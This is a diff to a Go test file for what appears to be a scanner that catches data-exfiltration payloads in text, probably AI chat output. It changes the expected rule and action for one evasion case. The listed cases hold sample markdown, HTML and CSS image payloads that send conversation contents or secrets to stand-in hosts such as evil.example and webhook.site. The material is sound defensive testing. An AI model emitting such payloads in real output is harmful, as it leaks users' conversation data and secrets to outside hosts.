@@ -166,7 +166,7 @@ func evasions(t *testing.T) []evasion {
 		res("data URL", text("data:text/plain;base64,"+b64("the token "+evToken)), "github-token", Note, b64(evToken)[4:30]),
 		res("data URL script", text("![x](data:text/html;base64,"+b64("<script>fetch('//x')</script>")+")"), "script-data-uri", Block, ""),
 		res("markdown image", text("![a](https://webhook.site/x?d={{conversation}})"), "collector-url", Block, ""),
-		res("markdown reference image", text("![a][r]\n\n[r]: https://evil.example/p.png?d={secret_value}"), "link-exfiltration", Review, ""),
+		res("markdown reference image", text("![a][r]\n\n[r]: https://evil.example/p.png?d={secret_value}"), "image-exfiltration", Block, ""),
 		res("html image", text(`<img alt=x src='https://evil.example/p?d=${data}'>`), "image-exfiltration", Block, ""),
 		res("html image without quotes", text(`<IMG SRC=https://evil.example/p?d=${data}>`), "image-exfiltration", Block, ""),
 		res("css url", text(`<div style="background:url(https://evil.example/p?d={data})">`), "image-exfiltration", Block, ""),
